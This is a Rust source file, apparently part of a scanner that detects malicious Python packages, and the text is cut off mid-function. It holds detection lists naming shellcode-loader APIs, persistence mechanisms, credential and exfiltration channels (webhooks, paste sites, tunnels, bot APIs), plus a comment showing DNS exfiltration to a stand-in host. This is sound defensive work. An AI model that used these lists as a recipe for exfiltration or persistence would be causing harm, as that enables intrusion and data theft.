//! Security rules over one file's facts. Severity is about intent, not
//! capability: opening files, starting Explorer, calling web APIs and
//! writing settings are info to medium and go to the transparency report;
//! high and critical are for what only malware needs (decoded or downloaded
//! code executed, download then run, persistence, shells, shellcode,
//! credentials sent out, destruction outside the package). Findings are
//! combined per file, following data from sources to sinks ([`crate::flow`]):
//! a decoder feeding `exec` is one critical finding, not two medium ones.

use crate::crossfile::FileFlows;
use crate::dotted::last_segment;
use crate::facts::{Arg, Call, Facts};
use crate::flow::{self, FETCHERS, Flow, HOSTILE_FRAGMENTS, Labels, Names, matches, names};
use crate::report::{Capabilities, Finding, Severity};
use crate::timing::{Timing, When};

const EXECUTORS: &[&str] = &["eval", "exec", "compile", "execfile", "runpy.run_path", "types.FunctionType"];
const IMPORTERS: &[&str] = &["__import__", "importlib.import_module"];
/// Windows APIs a shellcode loader calls: allocate executable memory, copy
/// into it, run it.
const SHELLCODE_APIS: &[&str] = &[
    "VirtualAlloc",
    "VirtualAllocEx",
    "CreateThread",
    "CreateRemoteThread",
    "RtlMoveMemory",
    "WriteProcessMemory",
    "VirtualProtect",
];

/// Names that legitimate code never needs to assemble from pieces.
const ASSEMBLED_DANGEROUS: &[&str] = &[
    "exec",
    "eval",
    "compile",
    "execfile",
    "__import__",
    "__builtins__",
    "builtins",
    "system",
    "popen",
    "Popen",
    "subprocess",
    "spawn",
    "startfile",
    "urlopen",
    "urlretrieve",
    "urllib.request",
    "urllib2",
    "requests",
    "socket",
    "b64decode",
    "decompress",
    "marshal",
    "loads",
    "pickle",
    "ctypes",
    "kernel32",
    "VirtualAlloc",
    "RtlMoveMemory",
    "CreateThread",
    "winreg",
    "_winreg",
    "SetValueEx",
    "OpenKey",
    "CreateKey",
    "powershell",
    "cmd.exe",
    "cmd",
    "certutil",
    "mshta",
    "rundll32",
    "schtasks",
    "DownloadString",
    "DownloadFile",
    "WebClient",
    "Assembly",
];

/// Calls that run the code in a file.
const CODE_LOADERS: &[&str] = &[
    "runpy.run_path",
    "runpy.run_module",
    "imp.load_source",
    "importlib.machinery.SourceFileLoader",
    "importlib.util.spec_from_file_location",
    "?.exec_module",
    "?.load_module",
    "execfile",
    "?.LoadFrom",
    "?.LoadFile",
    "clr.AddReferenceToFileAndPath",
];
/// Name lookups: `socket.gethostbyname(data + ".evil.example")` leaks data in DNS.
const DNS_LOOKUPS: &[&str] = &[
    "socket.gethostbyname",
    "socket.gethostbyname_ex",
    "socket.getaddrinfo",
    "dns.resolver.resolve",
    "dns.resolver.query",
    "?.resolve",
];
/// Calls that write their argument into a file.
const CONTENT_WRITERS: &[&str] =
    &["?.write", "?.writelines", "?.write_text", "?.write_bytes", "?.WriteAllText", "?.WriteAllBytes"];
const PROCESS: &[&str] = &[
    "os.system",
    "os.popen",
    "os.popen2",
    "os.popen3",
    "os.startfile",
    "os.execv",
    "os.execve",
    "os.execl",
    "os.execlp",
    "os.execvp",
    "os.spawnl",
    "os.spawnv",
    "os.spawnve",
    "os.posix_spawn",
    "pty.spawn",
    "subprocess.Popen",
    "subprocess.call",
    "subprocess.run",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "System.Diagnostics.Process.Start",
    "Process.Start",
    "?.Process.Start",
    "win32api.ShellExecute",
    "win32process.CreateProcess",
    "ctypes.windll.shell32.ShellExecuteW",
    "ctypes.windll.shell32.ShellExecuteA",
    "ctypes.windll.kernel32.WinExec",
    "asyncio.create_subprocess_shell",
    "asyncio.create_subprocess_exec",
];
/// Calls that talk to the network (reads are also in [`FETCHERS`]).
const NETWORK: &[&str] = &[
    "urllib.request.urlopen",
    "urllib.request.Request",
    "urllib.request.urlretrieve",
    "urllib.urlopen",
    "urllib.urlretrieve",
    "urllib2.urlopen",
    "urllib2.Request",
    "requests.get",
    "requests.post",
    "requests.put",
    "requests.patch",
    "requests.request",
    "requests.Session",
    "httpx.get",
    "httpx.post",
    "http.client.HTTPConnection",
    "http.client.HTTPSConnection",
    "httplib.HTTPConnection",
    "httplib.HTTPSConnection",
    "socket.socket",
    "socket.create_connection",
    "smtplib.SMTP",
    "smtplib.SMTP_SSL",
    "ftplib.FTP",
    "System.Net.WebClient",
    "System.Net.Http.HttpClient",
    "System.Net.WebRequest.Create",
    "WebClient",
    "HttpClient",
    "WebRequest.Create",
];
/// Calls that send data out: with credentials or the environment in their
/// arguments they are exfiltration.
/// Files a Unix shell runs at start-up or login.
const SHELL_STARTUP: &[&str] =
    &[".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshrc", ".zprofile", "/etc/rc.local", "/etc/profile"];

const SENDERS: &[&str] = &[
    "urllib.request.urlopen",
    "urllib.request.Request",
    "urllib2.urlopen",
    "urllib2.Request",
    "urllib.urlopen",
    "requests.get",
    "requests.post",
    "requests.put",
    "requests.patch",
    "requests.request",
    "httpx.post",
    "?.post",
    "?.put",
    "?.send",
    "?.sendall",
    "?.sendto",
    "?.sendmail",
    "?.send_message",
    // Chat bot APIs (python-telegram-bot, pyTelegramBotAPI): where the bot's
    // token says.
    "?.send_document",
    "?.send_photo",
    "?.sendDocument",
    "?.storbinary",
    "?.UploadString",
    "?.UploadData",
    "?.UploadValues",
    "?.UploadFile",
    "?.PostAsync",
    "?.request",
];
/// Calls that save a download to disk.
const DOWNLOAD_TO_FILE: &[&str] = &[
    "urllib.request.urlretrieve",
    "urllib.urlretrieve",
    "?.DownloadFile",
    "?.DownloadFileAsync",
    "?.DownloadFileTaskAsync",
];
const DESERIALIZE: &[&str] = &[
    "pickle.load",
    "pickle.loads",
    "cPickle.loads",
    "cPickle.load",
    "marshal.loads",
    "marshal.load",
    "dill.loads",
    "dill.load",
    "shelve.open",
    "jsonpickle.decode",
    "joblib.load",
];
const DELETERS: &[&str] = &[
    "shutil.rmtree",
    "os.remove",
    "os.unlink",
    "os.rmdir",
    "os.removedirs",
    "?.unlink",
    "?.rmtree",
    "System.IO.File.Delete",
    "System.IO.Directory.Delete",
    "File.Delete",
    "Directory.Delete",
];
const PERSISTENCE_TASK: &[&str] = &["schtasks", "register-scheduledtask", "new-scheduledtask"];
const RUN_KEYS: &[&str] =
    &["currentversion\\run", "currentversion\\\\run", "currentversion/run", "winlogon", "image file execution options"];
const STARTUP_MARKERS: &[&str] = &[
    "start menu\\programs\\startup",
    "start menu\\\\programs\\\\startup",
    "start menu/programs/startup",
    "shell:startup",
];
const SUSPICIOUS_HOSTS: &[&str] = &[
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "pastebin.com",
    "paste.ee",
    "hastebin",
    "ngrok",
    "transfer.sh",
    "webhook.site",
    "requestbin",
    "pipedream.net",
    "api.telegram.org/bot",
    ".onion",
    "anonfiles",
    "raw.githubusercontent.com/",
    "interact.sh",
    "oast.",
    "oastify.com",
    "burpcollaborator",
    "dnslog.cn",
    "ceye.io",
    "canarytokens.com",
];
const USER_FOLDERS: &[&str] = &[
    "expanduser",
    "userprofile",
    "documents",
    "desktop",
    "pictures",
    "onedrive",
    "homedrive",
    "homepath",
    "path.home",
    "\"~",
    "'~",
    "c:\\\\",
    "c:/",
    "\"/\"",
    "'/'",
    ".rvt",
    ".rfa",
];

/// The first argument as written: its literal value, else its source text.
fn first_arg(c: &Call) -> String {
    c.args.first().map(|a| a.literal.clone().unwrap_or_else(|| a.text.to_string())).unwrap_or_default()
}

fn all_args_lower(c: &Call) -> String {
    let mut s = String::new();
    for a in &c.args {
        s.push_str(&a.text.to_ascii_lowercase());
        s.push(' ');
        for lit in &a.strings {
            s.push_str(&lit.to_ascii_lowercase());
            s.push(' ');
        }
    }
    s
}

struct Out<'a> {
    file: &'a str,
    /// The file's source (for [`Timing`], which looks for a program's entry).
    text: &'a str,
    /// The file runs while the package installs.
    install_time: bool,
    findings: Vec<Finding>,
    /// The rules of `findings`: rules that report once per file ask here,
    /// not the list (a file may have a finding per call).
    rules: rustc_hash::FxHashSet<&'static str>,
    /// When each line runs, worked out on first use (few files need it).
    timing: std::cell::OnceCell<Timing>,
    /// Findings another file may make more serious by calling their
    /// function while it installs or loads (see [`crate::crossfile::Deferred`]).
    deferred: Vec<crate::crossfile::Deferred>,
    /// A chat bot's token is written in the file ([`flow::is_bot_token`]).
    bot_token: bool,
}

impl Out<'_> {
    fn timing(&self, facts: &Facts<'_>) -> &Timing {
        self.timing.get_or_init(|| Timing::new(facts, self.install_time, self.file, self.text))
    }

    fn reported(&self, rule: &str) -> bool {
        self.rules.contains(rule)
    }

    /// The file talks to a raw IP, a paste site, a webhook or a tunnel, or
    /// holds a chat bot's token: what it sends goes where the author reads.
    fn suspicious_destination(&self) -> bool {
        self.bot_token || self.reported("network-suspicious-host")
    }

    fn push(&mut self, rule: &'static str, severity: Severity, category: &'static str, c: &Call, message: String) {
        self.rules.insert(rule);
        self.findings.push(Finding {
            rule,
            severity,
            category,
            file: self.file.to_owned(),
            line: c.line,
            column: c.column,
            snippet: c.snippet.to_string(),
            message,
            because: Vec::new(),
        });
    }

    /// Facts a rule knows about its last finding beyond what
    /// [`crate::explain`] finds at the finding's line (which lines fetch,
    /// which run).
    fn because(&mut self, facts: Vec<String>) {
        // Chains explain the levels that block; below high there is none.
        if let Some(f) = self.findings.last_mut().filter(|f| f.severity >= Severity::High) {
            f.because.extend(facts);
        }
    }

    fn push_at(
        &mut self,
        rule: &'static str,
        severity: Severity,
        category: &'static str,
        line: usize,
        message: String,
    ) {
        self.rules.insert(rule);
        self.findings.push(Finding {
            rule,
            severity,
            category,
            file: self.file.to_owned(),
            line,
            column: 1,
            snippet: String::new(),
            message,
            because: Vec::new(),
        });
    }
}

/// The file's data flow, set up on first use (most files have no sink).
struct LazyVars<'a> {
    facts: &'a Facts<'a>,
    cell: std::cell::OnceCell<Flow<'a>>,
}

impl LazyVars<'_> {
    fn flow(&self) -> &Flow<'_> {
        self.cell.get_or_init(|| Flow::new(self.facts))
    }

    /// Labels of an argument of the call at `line`.
    fn arg_labels(&self, line: usize, a: &Arg<'_>) -> Labels {
        self.cell.get_or_init(|| Flow::new(self.facts)).arg_labels(line, a)
    }

    /// What the variable `name` may hold at `line`.
    fn name_labels(&self, line: usize, name: &str) -> Labels {
        self.cell.get_or_init(|| Flow::new(self.facts)).name_labels(line, name)
    }
}

/// A `'static` needle list, by its address and length.
type NeedlesKey = (usize, usize);

/// Facts about the whole file that several rules combine.
struct FileSense<'a> {
    facts: &'a Facts<'a>,
    /// Every string of the file, lowercased, each between NULs
    /// (`"\0first\0second\0"`): one buffer to search instead of one search
    /// per string.
    haystack: String,
    /// Where each string starts in `haystack`.
    starts: Vec<usize>,
    /// Answers of [`FileSense::mentions`] by needle list (its address: the
    /// lists are `'static`, so an address names one list), since per-call
    /// rules ask the same question again.
    mentioned: std::cell::RefCell<Vec<(NeedlesKey, Option<usize>)>>,
    /// Whether any name of the file can hold `Registry` or `lipboard`, and
    /// `builtin`: names are made of the source's identifiers and its strings,
    /// so one search of each answers for every call and argument.
    may_name_registry: bool,
    may_name_builtins: bool,
}

impl<'a> FileSense<'a> {
    fn new(facts: &'a Facts<'a>, text: &str) -> Self {
        let mut haystack = String::with_capacity(facts.strings.iter().map(|(s, _)| s.len() + 1).sum::<usize>() + 1);
        let mut starts = Vec::with_capacity(facts.strings.len());
        haystack.push('\0');
        for (s, _) in &facts.strings {
            starts.push(haystack.len());
            haystack.push_str(s);
            haystack.push('\0');
        }
        haystack.make_ascii_lowercase();
        let found = |hay: &str, needle: &str| memchr::memmem::find(hay.as_bytes(), needle.as_bytes()).is_some();
        let may_name_registry = ["Registry", "lipboard"].iter().any(|n| found(text, n))
            || ["registry", "lipboard"].iter().any(|n| found(&haystack, n));
        let may_name_builtins = found(text, "builtin") || found(&haystack, "builtin");
        FileSense { facts, haystack, starts, mentioned: Default::default(), may_name_registry, may_name_builtins }
    }

    /// The line of the first string that contains one of `needles` (lowercase).
    fn mentions(&self, needles: &'static [&'static str]) -> Option<usize> {
        let key = (needles.as_ptr() as usize, needles.len());
        if let Some(&(_, answer)) = self.mentioned.borrow().iter().find(|(k, _)| *k == key) {
            return answer;
        }
        let answer = self.search(needles);
        self.mentioned.borrow_mut().push((key, answer));
        answer
    }

    fn search(&self, needles: &[&str]) -> Option<usize> {
        let at = needles.iter().filter_map(|n| memchr::memmem::find(self.haystack.as_bytes(), n.as_bytes())).min()?;
        let index = self.starts.partition_point(|&start| start <= at).saturating_sub(1);
        self.facts.strings.get(index).map(|(_, line)| *line)
    }

    /// Whether some string is exactly `word` (lowercase).
    fn has_string(&self, word: &str) -> bool {
        memchr::memmem::find(self.haystack.as_bytes(), format!("\0{word}\0").as_bytes()).is_some()
    }

    fn any_call(&self, list: &Names) -> Option<&Call<'_>> {
        self.facts.calls.iter().find(|c| matches(&c.name, list))
    }
}

/// A call to an executor, directly or handed over (`map(exec, ...)`).
fn executor_name(c: &Call) -> Option<String> {
    if matches(&c.name, names!(EXECUTORS)) {
        return Some(c.name.clone());
    }
    c.args.iter().find(|a| a.literal.is_none() && EXECUTORS.contains(&a.text.trim())).map(|a| a.text.trim().to_owned())
}

/// Runs every rule on one Python file. `package` is the normalised package
/// name (its own folders under APPDATA are not "outside the package").
/// `text` is the source `facts` were read from.
/// `install_time`: the file runs while the package installs (see
/// [`is_install_time`]; manifest hooks too).
pub(crate) fn check_python(
    file: &str,
    text: &str,
    facts: &Facts,
    package: &str,
    install_time: bool,
    caps: &mut Capabilities,
    flows: &mut FileFlows,
) -> Vec<Finding> {
    let mut out = Out {
        file,
        text,
        install_time,
        findings: Vec::new(),
        rules: Default::default(),
        timing: Default::default(),
        deferred: Vec::new(),
        bot_token: facts.strings.iter().any(|(s, _)| flow::is_bot_token(s.trim().as_bytes())),
    };
    // The data-flow pass runs only when a rule asks where a value came from.
    let lazy = LazyVars { facts, cell: std::cell::OnceCell::new() };
    let sense = FileSense::new(facts, text);
    let labels_of = |c: &Call| c.args.iter().fold(Labels::NONE, |l, a| l | lazy.arg_labels(c.line, a));
    // A socket connected to an address written in the file: what it sends
    // goes where the author chose (`send` itself names no address).
    let connects_to_literal = facts.calls.iter().any(|c| {
        (c.name.ends_with(".connect") || c.name == "socket.create_connection")
            && c.args.iter().any(|a| a.literal.iter().chain(&a.strings).any(|s| crate::flow::is_address(s)))
    });

    for c in &facts.calls {
        let name = c.name.as_str();
        // Most calls (`len`, `self.update`) concern no rule: skip them cheaply.
        if !interesting(c, &sense) {
            continue;
        }
        // Labels cost a pass over the arguments: only sinks need them.
        let mut labels = if needs_labels(c, &sense) { labels_of(c) } else { Labels::NONE };
        // A sender's destination may be in the object it is called on: a
        // connection opened to a host the code names, a chat bot built with
        // a token written in the code (`bot.send_document(chat, f)`).
        if matches(name, names!(SENDERS))
            && let Some((receiver, _)) = name.rsplit_once('.')
            && receiver != "requests"
        {
            labels |= lazy.name_labels(c.line, receiver).and(Labels::ADDRESS | Labels::DECODED);
        }
        // What exec, eval, compile or __import__ runs is their first
        // argument; the namespaces they are given (`exec(src, {}, ns)`) are
        // data, whatever flowed into them. Handed over (`map(exec, xs)`), the
        // code is among the other arguments.
        let code_labels = if labels.is_empty() {
            labels
        } else if matches(name, names!(EXECUTORS)) || matches(name, names!(IMPORTERS)) {
            c.args
                .iter()
                .find(|a| a.keyword.is_none() || a.keyword.as_deref() == Some("source"))
                .map_or(Labels::NONE, |a| lazy.arg_labels(c.line, a))
        } else {
            labels
        };
        dynamic_code(&mut out, c, code_labels);
        processes(&mut out, facts, c, labels, caps);
        network(&mut out, facts, c, labels, connects_to_literal, caps);
        if matches(name, names!(DESERIALIZE))
            || (name == "yaml.load"
                && !c.args.iter().any(|a| a.text.contains("SafeLoader") || a.text.contains("CSafeLoader")))
            || name == "yaml.unsafe_load"
        {
            let (sev, why) = if labels.has(Labels::FETCHED) {
                (Severity::Critical, " on data from the network")
            } else {
                (Severity::Medium, "")
            };
            out.push(
                "unsafe-deserialization",
                sev,
                "deserialization",
                c,
                format!("{name}(){why} can run code hidden in the data"),
            );
        }
        native(&mut out, c, labels);
        smuggling(&mut out, c, labels);
        registry(&mut out, c, labels, &sense, caps);
        files(&mut out, c, &lazy, package, caps);
        if matches(
            name,
            names!(&["?.SetClipboardData", "?.SetText", "pyperclip.copy", "clipboard.copy", "?.SetDataObject"]),
        ) && sense.mentions(&["bc1", "0x[a-f", "[13][a-km-z", "^0x", "wallet"]).is_some()
        {
            out.push(
                "clipboard-hijack",
                Severity::High,
                "credentials",
                c,
                "replaces the clipboard in a file that looks for wallet addresses".into(),
            );
        }
    }

    whole_file(&mut out, &sense, &lazy);
    for (s, line) in &facts.strings {
        if flow::is_bot_token(s.trim().as_bytes()) {
            out.push_at(
                "hardcoded-secret",
                Severity::Medium,
                "credentials",
                *line,
                "a chat bot's token is written in the code: what the bot sends goes to whoever holds it".into(),
            );
        } else if has(s, "-----BEGIN") && s.contains("PRIVATE KEY") || is_access_key(s) {
            out.push_at(
                "hardcoded-secret",
                Severity::Medium,
                "credentials",
                *line,
                "a private key or access key is written in the code".into(),
            );
        }
        if s.len() >= 512 && entropy(s) > 4.5 {
            out.rules.insert("high-entropy-string");
            out.findings.push(Finding {
                rule: "high-entropy-string",
                severity: Severity::Medium,
                category: "obfuscation",
                file: file.to_owned(),
                line: *line,
                column: 1,
                snippet: s.chars().take(60).collect(),
                message: format!("a {}-character string that looks encoded or encrypted", s.len()),
                because: Vec::new(),
            });
        }
    }
    cross_file(&out, facts, &sense, &lazy, connects_to_literal, flows);
    if out.findings.iter().any(|f| f.severity >= Severity::High) {
        out.timing(facts);
        let timing = out.timing.take().expect("set just above");
        crate::explain::explain(&mut out.findings, facts, file, &timing, labels_of);
    }
    out.findings
}

/// Whether some string of the file names a credential store (a cheap test
/// over every string at once, before any data flow).
fn mentions_store(sense: &FileSense<'_>) -> bool {
    flow::CREDENTIAL_MARKERS
        .iter()
        .chain(flow::CREDENTIAL_COMPONENTS)
        .chain(&["cookies"])
        .any(|m| memchr::memmem::find(sense.haystack.as_bytes(), m.as_bytes()).is_some())
}

/// What this file leaves for the package-wide join ([`crate::crossfile`]):
/// what its functions return, when that carries secrets, identity,
/// downloads or decoded data; and its sinks that receive what calls into
/// other modules return.
fn cross_file(
    out: &Out<'_>,
    facts: &Facts<'_>,
    sense: &FileSense<'_>,
    lazy: &LazyVars<'_>,
    connects_to_literal: bool,
    flows: &mut FileFlows,
) {
    use crate::crossfile::{CARRIED, MAX_CALLS_PER_SINK, MAX_PER_FILE, Sink, SinkKind};
    flows.deferred.extend(out.deferred.iter().take(MAX_PER_FILE).cloned());
    // Calls into another module of the package made while this file
    // installs (any line of setup.py) or loads (its top-level calls).
    let module_call = |n: &str| {
        let root = n.trim_start_matches('.').split('.').next().unwrap_or(n);
        !n.starts_with("?.")
            && !n.starts_with("self.")
            && !n.starts_with("cls.")
            && n.trim_start_matches('.').contains('.')
            && !crate::crossfile::STDLIB_ROOTS.contains(&root)
    };
    let entries: Box<dyn Iterator<Item = &str>> = if out.install_time {
        Box::new(facts.calls.iter().map(|c| c.name.as_str()))
    } else {
        Box::new(facts.import_time.iter().map(|(n, _)| n.as_str()))
    };
    for n in entries.filter(|n| module_call(n)).take(MAX_PER_FILE) {
        flows.entries.push((n.to_owned(), out.install_time));
    }
    // Exports need the data flow: only files with a source of a carried
    // label build it for them.
    let has_source = || {
        facts.calls.iter().any(|c| {
            // The last part of the name first: one hash lookup turns most calls away.
            SOURCE_SEGMENTS.contains(last_segment(&c.name))
                && (matches(&c.name, names!(flow::DECODERS))
                    || matches(&c.name, names!(FETCHERS))
                    || matches(&c.name, names!(flow::HOST_IDENTITY_CALLS))
                    || c.name == "os.getenv")
                || c.name.starts_with("os.environ")
        }) || facts.assigns.iter().any(|a| a.names.iter().any(|n| n.starts_with("os.environ")))
            || mentions_store(sense)
    };
    if !facts.functions.is_empty() && has_source() {
        let flow = lazy.flow();
        for f in &facts.functions {
            let l = flow.returns(&f.name).and(CARRIED);
            if !l.is_empty() && flows.exports.len() < MAX_PER_FILE {
                flows.exports.push((f.name.clone(), f.first_line, l));
            }
        }
    }
    // Sinks: what reaches them from calls that name another module
    // (`grab.tokens()`, `..grab.tokens`), directly or through a variable.
    let mut assigned: Option<rustc_hash::FxHashMap<&str, Vec<&str>>> = None;
    for c in &facts.calls {
        if flows.sinks.len() >= MAX_PER_FILE {
            break;
        }
        if !INTERESTING.contains(last_segment(&c.name)) {
            continue;
        }
        let kind = if matches(&c.name, names!(SENDERS)) {
            SinkKind::Send
        } else if matches(&c.name, names!(EXECUTORS)) {
            SinkKind::Exec
        } else if matches(&c.name, names!(PROCESS)) {
            SinkKind::Process
        } else {
            continue;
        };
        // What exec runs is its first argument; a sender or a process
        // gets all of theirs.
        let args: Vec<&Arg<'_>> = if kind == SinkKind::Exec {
            c.args.iter().filter(|a| a.keyword.is_none() || a.keyword.as_deref() == Some("source")).take(1).collect()
        } else {
            c.args.iter().collect()
        };
        let by_target = assigned.get_or_insert_with(|| {
            let mut m: rustc_hash::FxHashMap<&str, Vec<&str>> = rustc_hash::FxHashMap::default();
            for a in &facts.assigns {
                for t in &a.targets {
                    m.entry(t.as_str()).or_default().extend(a.calls.iter().map(String::as_str));
                }
            }
            m
        });
        let mut calls: Vec<String> = Vec::new();
        let mut keep = |n: &str| {
            // A module's function: `grab.tokens`, `..grab.tokens`; not a
            // method of an object (`?.read`, `self.load`).
            // Calls into the standard library never reach the package's own
            // functions: skipping them keeps most files from recording a
            // sink (and from working out when it runs).
            let root = n.split('.').next().unwrap_or(n);
            if n.trim_start_matches('.').contains('.')
                && !n.starts_with("?.")
                && !n.starts_with("self.")
                && !n.starts_with("cls.")
                && !crate::crossfile::STDLIB_ROOTS.contains(&root)
                && !calls.iter().any(|x| x == n)
                && calls.len() < MAX_CALLS_PER_SINK
            {
                calls.push(n.to_owned());
            }
        };
        for a in &args {
            a.inner_calls.iter().for_each(|n| keep(n));
            for n in &a.names {
                for inner in by_target.get(n.as_str()).into_iter().flatten() {
                    keep(inner);
                }
            }
        }
        if calls.is_empty() {
            continue;
        }
        let own = args.iter().fold(Labels::NONE, |l, a| l | lazy.arg_labels(c.line, a));
        let chosen = own.has(Labels::ADDRESS | Labels::DECODED)
            || connects_to_literal && c.name.contains(".send")
            || out.suspicious_destination()
            || out.install_time;
        flows.sinks.push(Sink {
            kind,
            name: c.name.clone(),
            file: out.file.to_owned(),
            line: c.line,
            column: c.column,
            snippet: c.snippet.to_string(),
            own,
            chosen,
            install_time: out.install_time,
            import_time: out.timing(facts).at(facts, c.line) == When::Import,
            when: crate::explain::when(facts, out.timing(facts), c.line, out.file),
            calls,
        });
    }
}

/// The last segments of the calls that give data a label worth carrying
/// to another file (decoders, fetchers, who-runs-it calls, `getenv`).
static SOURCE_SEGMENTS: std::sync::LazyLock<rustc_hash::FxHashSet<&'static str>> = std::sync::LazyLock::new(|| {
    flow::DECODERS
        .iter()
        .chain(FETCHERS)
        .chain(flow::HOST_IDENTITY_CALLS)
        .map(|n| last_segment(n))
        .chain(["getenv"])
        .collect()
});

/// The last segments of every call name a per-call rule looks at.
static INTERESTING: std::sync::LazyLock<rustc_hash::FxHashSet<&'static str>> = std::sync::LazyLock::new(|| {
    let lists: &[&[&str]] = &[
        EXECUTORS,
        IMPORTERS,
        PROCESS,
        NETWORK,
        FETCHERS,
        SENDERS,
        DESERIALIZE,
        DELETERS,
        DNS_LOOKUPS,
        CONTENT_WRITERS,
        CODE_LOADERS,
        DOWNLOAD_TO_FILE,
        SHELLCODE_APIS,
    ];
    let extra = [
        "load",
        "unsafe_load",
        "Load",
        "AddReferenceToFile",
        "AddReference",
        "CDLL",
        "WinDLL",
        "LoadLibrary",
        "SetValueEx",
        "SetValue",
        "CreateKey",
        "CreateKeyEx",
        "CreateSubKey",
        "RegSetValueEx",
        "open",
        "write_text",
        "write_bytes",
        "copy",
        "copy2",
        "copyfile",
        "move",
        "Copy",
        "SetClipboardData",
        "SetText",
        "SetDataObject",
    ];
    lists.iter().flat_map(|l| l.iter()).map(|n| last_segment(n)).chain(extra).collect()
});

fn interesting(c: &Call, sense: &FileSense<'_>) -> bool {
    let n = c.name.as_str();
    INTERESTING.contains(last_segment(n))
        || ["ctypes.", "win32api.", "winreg.", "_winreg.", "Registry.", "Microsoft."].iter().any(|p| n.starts_with(p))
        || sense.may_name_registry && mentions_registry_or_clipboard(n)
        || c.args.iter().any(|a| a.literal.is_none() && EXECUTORS.contains(&a.text.trim()))
}

fn mentions_registry_or_clipboard(n: &str) -> bool {
    has(n, "Registry") || has(n, "lipboard")
}

/// `hay.contains(needle)` for the short names and strings of a file (these
/// run for every call of every file): a plain loop, with no searcher or
/// SIMD set-up to pay for on a few bytes.
fn has(hay: &str, needle: &str) -> bool {
    let (h, n) = (hay.as_bytes(), needle.as_bytes());
    let Some(&first) = n.first() else { return true };
    h.len() >= n.len() && (0..=h.len() - n.len()).any(|i| h[i] == first && h[i..i + n.len()] == *n)
}

/// Calls whose rules look at where their arguments come from.
fn needs_labels(c: &Call, sense: &FileSense<'_>) -> bool {
    let n = c.name.as_str();
    executor_name(c).is_some()
        || [
            names!(IMPORTERS),
            names!(PROCESS),
            names!(SENDERS),
            names!(DESERIALIZE),
            names!(DNS_LOOKUPS),
            names!(CONTENT_WRITERS),
            names!(CODE_LOADERS),
        ]
        .iter()
        .any(|l| matches(n, l))
        || n.starts_with("yaml.")
        || n.ends_with(".Load")
        || n.starts_with("winreg.")
        || n.starts_with("_winreg.")
        || sense.may_name_registry && has(n, "Registry")
        || ["SetValueEx", "SetValue", "CreateKey", "CreateKeyEx", "CreateSubKey", "RegSetValueEx"]
            .iter()
            .any(|w| n.ends_with(w))
}

fn is_access_key(s: &str) -> bool {
    (s.len() == 20 && s.starts_with("AKIA") && s.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit()))
        || (s.starts_with("ghp_") && s.len() == 40)
        || (s.starts_with("xoxb-") && s.len() > 40)
}

/// An argument that is a string template of Python code filled in place
/// (`'''def %s(self, *a):\n    return ...''' % (name,)`, an f-string, or
/// `.format`): the template itself defines code (a `def`, `lambda`,
/// `class` or `return`) in at least a line's worth of text.
fn is_code_template(a: &Arg<'_>) -> bool {
    let t = a.text.trim_start().trim_start_matches(['f', 'F', 'r', 'R', 'u', 'U', 'b', 'B']);
    if a.literal.is_some() || !(t.starts_with('"') || t.starts_with('\'')) {
        return false;
    }
    let Some(template) = a.strings.first() else { return false };
    template.len() >= 24 && ["def ", "lambda", "class ", "return "].iter().any(|k| template.contains(k))
}

fn dynamic_code(out: &mut Out<'_>, c: &Call, labels: Labels) {
    if let Some(exec) = executor_name(c) {
        let constant = c.args.first().is_some_and(|a| a.literal.is_some());
        // Built from literals alone but not a literal: `"".join(["im", "port os"])`.
        let assembled = !constant
            && c.args.first().is_some_and(|a| a.names.is_empty() && !a.strings.is_empty() && !a.inner_calls.is_empty());
        // Code generated from a template written here (`'def %s(self): ...'
        // % name`): its shape is in the source for a reader to see; what
        // fills it (names received over a pipe, decoded identifiers) is
        // data, not a hidden program.
        let template = c.args.first().is_some_and(is_code_template);
        if template && labels.has(Labels::FETCHED | Labels::DECODED) {
            out.push(
                "exec-dynamic",
                Severity::Medium,
                "dynamic-code",
                c,
                format!("{exec}() runs code generated from a template written here, filled with computed values"),
            );
        } else if labels.has(Labels::FETCHED) {
            out.push(
                "exec-downloaded",
                Severity::Critical,
                "dynamic-code",
                c,
                format!("{exec}() runs code downloaded from the network"),
            );
        } else if labels.has(Labels::DECODED) || assembled {
            out.push(
                "exec-decoded",
                Severity::Critical,
                "dynamic-code",
                c,
                format!("{exec}() runs code that is decoded or assembled first (a way to hide it)"),
            );
        } else if !constant && !c.args.is_empty() {
            out.push("exec-dynamic", Severity::Medium, "dynamic-code", c, format!("{exec}() with a computed argument"));
        }
    }
    if matches(&c.name, names!(IMPORTERS)) && c.args.first().is_some_and(|a| a.literal.is_none()) {
        let sev =
            if labels.has(Labels::DECODED) || labels.has(Labels::FETCHED) { Severity::High } else { Severity::Low };
        out.push("import-dynamic", sev, "dynamic-code", c, format!("{}() with a computed module name", c.name));
    }
}

fn processes(out: &mut Out<'_>, facts: &Facts<'_>, c: &Call, labels: Labels, caps: &mut Capabilities) {
    if !matches(&c.name, names!(PROCESS)) {
        return;
    }
    let name = c.name.as_str();
    let cmd = all_args_lower(c);
    caps.processes.push(first_arg(c).chars().take(200).collect());
    let shell = c.args.iter().any(|a| a.keyword.as_deref() == Some("shell") && a.text.trim() != "False")
        || name == "os.system"
        || name.starts_with("os.popen");
    if labels.has(Labels::DECODED) || labels.has(Labels::FETCHED) {
        // Hidden (decoded) commands are the package's own act whenever they
        // run. A command built from what was downloaded is one too while the
        // package loads or installs; a tool its user runs (a Node.js
        // installer running the npm version its index names) does it on
        // request: reviewed, not blocked outright.
        let asked = !labels.has(Labels::DECODED)
            && matches!(out.timing(facts).at(facts, c.line), When::Call(..) | When::Program);
        out.push(
            "process-decoded",
            if asked { Severity::High } else { Severity::Critical },
            "process",
            c,
            "starts a process whose command is decoded or downloaded".into(),
        );
    } else if PERSISTENCE_TASK.iter().any(|n| cmd.contains(n)) && (cmd.contains("/create") || cmd.contains("register"))
    {
        out.push(
            "persistence-task",
            Severity::High,
            "persistence",
            c,
            "creates a scheduled task so something runs again later".into(),
        );
    } else if (labels.has(Labels::HOSTILE) || HOSTILE_FRAGMENTS.iter().any(|n| cmd.contains(n)))
        || RUN_KEYS.iter().any(|k| cmd.contains(k)) && cmd.contains("reg")
    {
        // While the package installs or the module loads, before anyone
        // asked for anything (a miner fetched and started from a
        // compromised library's `__init__`), such a command is the package
        // acting on its own; in a function its user calls, a tool's command.
